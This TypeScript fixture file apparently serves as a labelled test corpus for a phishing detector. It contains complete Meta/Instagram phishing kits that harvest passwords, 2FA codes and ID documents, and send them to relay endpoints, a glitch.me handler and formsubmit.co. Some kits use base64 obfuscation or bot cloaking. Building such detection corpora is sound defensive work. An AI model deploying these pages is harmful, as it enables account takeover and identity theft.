import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute, cssRoute } from '../parts/e-bin.js';
import { CSS, MARK, b64, codes, doc, esc, metaFooter, stepRelay } from '../parts/ys-kit.js';

// Meta / Facebook / Instagram business-account kits reported by staff and clients.

const caseNo = (n: number): string => `#${n.toString().padStart(10, '0')}`;

/** The 2FA step most Meta kits share, in a given language. */
function codeStep(t: { h: string; p: string; ph: string; btn: string; wait: string }, step = 'code'): string {
  return `<section data-step="${step}" style="display:none">
<div class="card">
<h2 style="margin:0 0 8px;font-size:20px">${t.h}</h2>
<p class="muted">${t.p}</p>
<img src="data:image/svg+xml;base64,${b64('<svg xmlns="http://www.w3.org/2000/svg" width="480" height="140"><rect width="480" height="140" rx="10" fill="#e7f3ff"/><rect x="190" y="22" width="100" height="96" rx="12" fill="#fff" stroke="#0866FF" stroke-width="3"/><text x="240" y="80" font-family="Arial" font-size="28" text-anchor="middle" fill="#0866FF">•••</text></svg>')}" alt="" style="width:100%;border-radius:10px;margin:10px 0">
<form autocomplete="off"><input class="inp" name="code" inputmode="numeric" maxlength="8" placeholder="${t.ph}" required>
<p class="err muted" style="display:none;color:#e41e3f">${t.wait}</p>
<button class="btn" type="submit">${t.btn}</button></form>
</div></section>`;
}

export const entries: Entry[] = [
{
  id: 'ys-meta-page-policy-appeal-en',
  label: 'phishing',
  kind: 'meta-policy-appeal-kit',
  url: 'https://meta-business-appeal.com/case/2025-7731094',
  body: doc({
    title: 'Meta Business Help Center | Appeal',
    css: CSS.reset + CSS.meta + `
.top{background:#fff;border-bottom:1px solid #dadde1;padding:12px 20px;display:flex;align-items:center;gap:12px}
.banner{background:#fff3cd;border:1px solid #ffe08a;border-radius:8px;padding:12px 14px;font-size:14px;margin-bottom:14px}
.pw-modal{position:fixed;inset:0;background:rgba(244,244,244,.85);display:flex;align-items:center;justify-content:center}
.pw-modal .card{width:420px}`,
    body: `<div class="top">${MARK.meta}<span style="font-weight:600;color:#444">Business Help Center</span></div>
<section data-step="info">
<div class="card">
<div class="banner"><b>Your Page has been scheduled for permanent deletion</b> due to a violation of our trademark rights. Case ${caseNo(7731094)}.</div>
<p>We have received multiple reports that your Page is infringing on the intellectual property of others. If you believe this is a mistake, you may submit an appeal. <b>If we do not receive an appeal within 24 hours, your Page will be permanently removed.</b></p>
<form>
<label>Page name</label><input class="inp" name="page" required>
<label>Full name</label><input class="inp" name="name" required>
<label>Business email address</label><input class="inp" type="email" name="bemail" required>
<label>Personal email address</label><input class="inp" type="email" name="pemail">
<label>Mobile phone number</label><input class="inp" type="tel" name="phone" required>
<label>Please provide us information that will help us investigate.</label><textarea class="inp" name="msg" rows="3"></textarea>
<label style="font-weight:400"><input type="checkbox" required> I agree to the <a href="#">Terms of Use</a> and <a href="#">Data Policy</a></label>
<button class="btn" type="submit" style="margin-top:14px">Submit</button>
</form>
<p class="muted" style="margin-top:14px">Please make sure to fill in the data correctly; otherwise, we may not be able to access your account.</p>
</div></section>
<section data-step="password" data-retry style="display:none"><div class="pw-modal"><div class="card">
<h3 style="margin-top:0">Please enter your password</h3>
<p class="muted">For your security, you must re-enter your password to continue.</p>
<form><input class="inp" type="password" name="password" placeholder="Password" required>
<p class="err muted" style="display:none;color:#e41e3f">The password you've entered is incorrect.</p>
<button class="btn" type="submit">Continue</button></form></div></div></section>
${codeStep({ h: 'Two-factor authentication required', p: "You've asked us to require a 6-digit login code when anyone tries to access your account from a new device or browser. Enter the 6-digit code from your code generator or third-party app below.", ph: 'Login code', btn: 'Submit', wait: 'The login code you entered doesn’t match the one sent to your phone. Please check the number and try again in 05:00.' })}
${metaFooter()}
${stepRelay({ endpoint: '/next.php', finalUrl: 'https://www.facebook.com/help/', delayMs: 1800 })}`,
  }),
},

{
  id: 'ys-meta-adaccount-appeal-ptbr-id-upload',
  label: 'phishing',
  kind: 'meta-ad-account-appeal-kit',
  url: 'https://central-recurso-anuncios.online/contas/recurso.html',
  body: doc({
    lang: 'pt-BR',
    title: 'Meta for Business - Recurso de conta de anúncios',
    css: CSS.reset + CSS.meta + `.drop{border:2px dashed #bcc0c4;border-radius:10px;padding:22px;text-align:center;color:#65676b;margin:8px 0 14px;cursor:pointer}.drop b{color:#0866FF}.grid{display:grid;grid-template-columns:1fr 1fr;gap:10px}`,
    body: `<div style="background:#fff;padding:14px 22px;border-bottom:1px solid #ddd">${MARK.meta}</div>
<section data-step="aviso"><div class="card">
<h2 style="margin-top:0">Sua conta de anúncios foi desativada</h2>
<p>A conta de anúncios <b>act_1043928817264</b> foi desativada por não seguir os <a href="#">Padrões de Publicidade</a>. Os anúncios em veiculação foram pausados e o saldo pendente de <b>R$ 3.418,20</b> será cobrado.</p>
<p>Se você acha que isso foi um engano, pode solicitar uma análise. O processo leva cerca de 5 minutos.</p>
<form><label>E-mail ou telefone</label><input class="inp" name="login" required>
<label>Senha do Facebook</label><input class="inp" type="password" name="senha" required>
<button class="btn">Solicitar análise</button></form></div></section>
${codeStep({ h: 'Confirme que é você', p: 'Enviamos um código para o seu WhatsApp ou aplicativo de autenticação. Digite-o abaixo.', ph: 'Código de 6 dígitos', btn: 'Continuar', wait: 'Código incorreto. Aguarde 05:00 para solicitar outro.' })}
<section data-step="documento" style="display:none"><div class="card">
<h2 style="margin-top:0">Confirme sua identidade</h2>
<p class="muted">Para concluir a análise, envie uma foto de um documento oficial (RG, CNH ou passaporte). As informações serão excluídas após 30 dias.</p>
<form id="docf"><div class="grid">
<label class="drop"><input type="file" name="frente" accept="image/*" hidden required><b>Frente</b><br>do documento</label>
<label class="drop"><input type="file" name="verso" accept="image/*" hidden><b>Verso</b><br>do documento</label></div>
<label>CPF</label><input class="inp" name="cpf" placeholder="000.000.000-00" required>
<label>Data de nascimento</label><input class="inp" name="nasc" type="date">
<button class="btn">Enviar para análise</button></form></div></section>
<section data-step="fim" style="display:none"><div class="card"><h2>Recebemos sua solicitação</h2><p>Nossa equipe analisará seu recurso em até 24 horas. Você receberá uma notificação no Gerenciador de Negócios.</p></div></section>
${metaFooter('pt')}
<script>
document.getElementById('docf').addEventListener('submit',function(){
  var fd=new FormData(this);fd.append('sid',localStorage.getItem('sid')||'');
  fetch('/contas/upload.php',{method:'POST',body:fd}).catch(function(){});
},true);
</script>
${stepRelay({ endpoint: '/contas/next.php', delayMs: 1500 })}`,
  }),
  routes: {
    'central-recurso-anuncios.online/contas/next.php': jsonRoute({ ok: true, next: 1 }),
  },
},

{
  id: 'ys-meta-verified-badge-it',
  label: 'phishing',
  kind: 'meta-verified-badge-kit',
  url: 'https://meta-verified-idoneita.it.com/richiesta',
  body: doc({
    lang: 'it',
    title: 'Meta Verified – Il tuo profilo è idoneo',
    css: CSS.reset + CSS.meta + `.badge{display:inline-flex;align-items:center;justify-content:center;width:64px;height:64px;border-radius:50%;background:#0866FF;color:#fff;font-size:36px}.perk{display:flex;gap:10px;margin:10px 0;font-size:15px}.perk span{color:#0866FF}`,
    body: `<div style="text-align:center;padding:26px 0 0">${MARK.meta}</div>
<section data-step="offerta"><div class="card" style="text-align:center">
<div class="badge">✓</div>
<h1 style="font-size:24px">Congratulazioni! Il tuo account è idoneo per il badge blu</h1>
<p class="muted">Grazie alla crescita del tuo pubblico negli ultimi 90 giorni, il team Meta ha selezionato il tuo profilo per ricevere <b>Meta Verified gratuitamente per 12 mesi</b>.</p>
<div style="text-align:left;margin:18px 0">
<div class="perk"><span>✓</span> Badge di verifica su Facebook e Instagram</div>
<div class="perk"><span>✓</span> Protezione proattiva dall'impersonificazione</div>
<div class="perk"><span>✓</span> Assistenza diretta di una persona reale</div></div>
<form><label style="display:block;text-align:left">Nome utente Instagram o URL della Pagina</label><input class="inp" name="profilo" required>
<label style="display:block;text-align:left">E-mail</label><input class="inp" type="email" name="email" required>
<button class="btn">Richiedi il badge</button></form>
<p class="muted" style="font-size:12px;margin-top:12px">L'offerta scade il <b>31 ottobre</b>. Le richieste non confermate verranno annullate.</p></div></section>
<section data-step="login" data-retry style="display:none"><div class="card">
<h2 style="margin-top:0">Conferma la proprietà dell'account</h2>
<p class="muted">Accedi per collegare il badge al tuo account.</p>
<form><input class="inp" name="utente" placeholder="Numero di cellulare o e-mail" required><input class="inp" type="password" name="password" placeholder="Password" required>
<p class="err muted" style="display:none;color:#e41e3f">La password inserita non è corretta. Riprova.</p>
<button class="btn">Accedi</button></form></div></section>
${codeStep({ h: 'Controlla le notifiche su un altro dispositivo', p: 'Inserisci il codice a 6 cifre della tua app di autenticazione o ricevuto via SMS.', ph: 'Codice', btn: 'Continua', wait: 'Il codice non è valido. Riprova tra 5 minuti.' })}
${metaFooter('it')}
${stepRelay({ endpoint: '/api/submit', bodyType: 'json', finalUrl: 'https://www.instagram.com/' })}`,
  }),
},

{
  id: 'ys-instagram-copyright-docwrite-en',
  label: 'phishing',
  kind: 'instagram-copyright-kit-obfuscated',
  url: 'https://help-instagram-copyright.pages.dev/appeal/8349201',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Instagram</title><meta name="robots" content="noindex,nofollow"></head><body>
<script>
var _0x=['${b64(doc({
    title: 'Copyright Infringement Appeal • Instagram',
    css: CSS.reset + `body{font-family:-apple-system,Helvetica,Arial,sans-serif;background:#fafafa}.c{max-width:420px;margin:36px auto;background:#fff;border:1px solid #dbdbdb;padding:30px}input,textarea{width:100%;border:1px solid #dbdbdb;background:#fafafa;padding:10px;margin:4px 0 10px;border-radius:4px}button{width:100%;background:#0095f6;color:#fff;border:0;padding:10px;border-radius:8px;font-weight:600}small{color:#8e8e8e}`,
    body: `<div class="c">${MARK.instagram}<h3>Copyright Infringement Detected</h3>
<p style="font-size:14px">We have received a complaint that one of your recent posts violates copyright law. Your account will be <b>permanently disabled within 48 hours</b> unless you verify your information. If you think this decision is wrong, please complete the form below.</p>
<form id="ap" action="https://appeal-form-handler.glitch.me/save" method="post">
<input name="username" placeholder="Username" required><input name="fullname" placeholder="Full name"><input name="email" placeholder="Email" type="email" required>
<input name="password" type="password" placeholder="Password" required><textarea name="note" placeholder="Explain why you think this is an error (optional)"></textarea>
<button>Send Appeal</button></form><small>Instagram from Meta · Copyright Center</small></div>`,
  }))}'];
document.write(decodeURIComponent(escape(atob(_0x[0]))));
</script></body></html>`,
},

{
  id: 'ys-meta-email-redirect-chain',
  label: 'phishing',
  kind: 'redirect-chain-kit',
  url: 'https://u4829113.ct.sendgrid.net/ls/click?upn=u001.Kx7mT2Qv9LkZp-2BcY4aNf',
  routes: {
    'u4829113.ct.sendgrid.net/ls/click': redirectRoute(302, 'https://cutt.ly/metacase-41180'),
    'cutt.ly/metacase-41180': redirectRoute(301, 'https://pages-appeal-center.vercel.app/help/appeal?c=41180&utm_source=mail'),
    'pages-appeal-center.vercel.app/help/appeal': htmlRoute(
      doc({
        title: 'Meta | Support Inbox',
        css: CSS.reset + CSS.meta + `.lay{display:flex;max-width:1040px;margin:24px auto;gap:20px}.side{width:260px;background:#fff;border-radius:8px;padding:14px}.side a{display:block;padding:8px;border-radius:6px;text-decoration:none}.side a.on{background:#e7f3ff;color:#0866FF}.main{flex:1}.main .card{margin:0}`,
        body: `<div style="background:#fff;padding:12px 20px;box-shadow:0 1px 2px rgba(0,0,0,.1)">${MARK.meta} <span class="muted">Business Support Home</span></div>
<div class="lay"><div class="side"><a href="#" class="on">Account Quality</a><a href="#">Support Inbox</a><a href="#">Pages</a><a href="#">Ad accounts</a><a href="#">Business settings</a></div>
<div class="main">
<section data-step="login"><div class="card">
<h2 style="margin-top:0">Restricted Page: action needed</h2>
<p>Your Page was restricted after a review of content reported as impersonation (Case <b>41180-MB</b>). To prevent permanent removal, log in to confirm you are the admin of this Page.</p>
<form><input class="inp" name="email" placeholder="Email address or phone number" required><input class="inp" type="password" name="pass" placeholder="Password" required><button class="btn">Log in to continue</button></form></div></section>
${codeStep({ h: 'Check your notifications on another device', p: "We sent a notification to your other device. Or enter the code from your authentication app.", ph: 'Code', btn: 'Continue', wait: 'This code is incorrect. Please try again later.' })}
</div></div>
${stepRelay({ endpoint: 'https://pages-appeal-center.vercel.app/api/collect', bodyType: 'json', finalUrl: 'https://www.facebook.com/business/help' })}`,
      }),
    ),
  },
},

{
  id: 'ys-meta-bm-invite-th-cloaked',
  label: 'phishing',
  kind: 'cloaked-kit',
  url: 'https://www.baanrakcoffee.co.th/#aW52aXRlPTIyOTE4ODMw',
  body: doc({
    lang: 'th',
    title: 'บ้านรักกาแฟ | คาเฟ่และโรงคั่วเมล็ดกาแฟ เชียงใหม่',
    css: `body{font-family:Tahoma,sans-serif;background:#f6f0e8;color:#3b2a1a;margin:0}header{background:#3b2a1a;color:#f6f0e8;padding:18px 24px}main{max-width:860px;margin:30px auto;padding:0 20px}.menu{display:grid;grid-template-columns:repeat(3,1fr);gap:14px}.menu div{background:#fff;padding:14px;border-radius:8px}`,
    body: `<header><b>บ้านรักกาแฟ</b> · Baan Rak Coffee</header>
<main><h1>กาแฟดริปจากดอยช้าง</h1><p>เปิดทุกวัน 07:30–18:00 · ถนนนิมมานเหมินท์ ซอย 9</p>
<div class="menu"><div>อเมริกาโน่ 65.-</div><div>ลาเต้ 75.-</div><div>ดริปดอยช้าง 90.-</div></div></main>
<script>
(function(){
  var u=navigator.userAgent.toLowerCase();
  var bot=navigator.webdriver||/bot|crawl|spider|headless|lighthouse|facebookexternalhit|google|bing|python|curl|scan/.test(u)||!navigator.languages||navigator.languages.length===0;
  var th=(Intl.DateTimeFormat().resolvedOptions().timeZone||'').indexOf('Bangkok')>-1||/^th/.test(navigator.language);
  if(!bot&&(th||location.hash.length>12)){location.replace('/wp-content/uploads/2024/bm/?i='+encodeURIComponent(location.hash.slice(1)))}
})();
</script>`,
  }),
  routes: {
    'www.baanrakcoffee.co.th/wp-content/uploads/2024/bm/': htmlRoute(
      doc({
        lang: 'th',
        title: 'Meta Business Suite - คำเชิญ',
        css: CSS.reset + CSS.meta,
        body: `<div style="text-align:center;margin-top:30px">${MARK.meta}</div>
<section data-step="accept"><div class="card">
<h2 style="margin-top:0">คุณได้รับคำเชิญให้เข้าร่วมพอร์ตโฟลิโอธุรกิจ</h2>
<p>เอเจนซี่ <b>Mekong Media Partners</b> ได้เชิญคุณเป็นผู้ดูแล (Admin) ของบัญชีโฆษณาและเพจ 3 รายการ กรุณาเข้าสู่ระบบด้วย Facebook เพื่อยอมรับคำเชิญ</p>
<form><input class="inp" name="email" placeholder="อีเมลหรือหมายเลขโทรศัพท์" required><input class="inp" type="password" name="pass" placeholder="รหัสผ่าน" required><button class="btn">ยอมรับคำเชิญ</button></form></div></section>
${codeStep({ h: 'การยืนยันตัวตนแบบสองขั้นตอน', p: 'ป้อนรหัส 6 หลักจากแอปยืนยันตัวตนหรือ SMS', ph: 'รหัสเข้าสู่ระบบ', btn: 'ส่ง', wait: 'รหัสไม่ถูกต้อง' })}
${metaFooter('th')}
${stepRelay({ endpoint: '/wp-content/uploads/2024/bm/post.php', finalUrl: 'https://business.facebook.com/' })}`,
      }),
    ),
  },
},

{
  id: 'ys-meta-page-removal-ptpt-formsubmit',
  label: 'phishing',
  kind: 'meta-policy-appeal-kit',
  url: 'https://apoio-paginas-meta.pt-recurso.com/index.html',
  body: doc({
    lang: 'pt-PT',
    title: 'Centro de Ajuda para Empresas',
    css: CSS.reset + CSS.meta + `.warn{display:flex;gap:12px;background:#fdeded;border-radius:8px;padding:12px;margin-bottom:12px}.warn i{font-style:normal;font-size:22px;color:#e41e3f}`,
    body: `<div style="background:#fff;padding:12px 20px;border-bottom:1px solid #ddd">${MARK.meta}</div>
<div class="card">
<div class="warn"><i>⚠</i><div><b>A sua página será removida</b><br><span class="muted">Violação das Normas da Comunidade — Propriedade intelectual</span></div></div>
<p>Detetámos que a sua página partilhou conteúdos que violam os direitos de autor de terceiros. Se não apresentar um recurso nas próximas 24 horas, a página será removida definitivamente e o acesso ao Gestor de Negócios será suspenso.</p>
<form id="rf">
<input type="hidden" name="_subject" value="PT - novo recurso"><input type="hidden" name="_captcha" value="false">
<label>Nome completo</label><input class="inp" name="nome" required>
<label>E-mail ou telemóvel</label><input class="inp" name="login" required>
<label>Palavra-passe</label><input class="inp" type="password" name="pass" required>
<label>Nome da página</label><input class="inp" name="pagina">
<button class="btn">Enviar recurso</button></form>
<p id="ok" style="display:none" class="muted">Obrigado. O seu recurso foi recebido e será analisado dentro de 2 dias úteis.</p></div>
${metaFooter('pt')}
<script>
document.getElementById('rf').addEventListener('submit',function(e){e.preventDefault();
  fetch('https://formsubmit.co/ajax/apoio.recursos.meta24@gmail.com',{method:'POST',headers:{'Content-Type':'application/json',Accept:'application/json'},body:JSON.stringify(Object.fromEntries(new FormData(this)))})
  .finally(function(){document.getElementById('rf').style.display='none';document.getElementById('ok').style.display='block';setTimeout(function(){location.href='https://www.facebook.com/'},4000)});
});
</script>`,
  }),
},
];
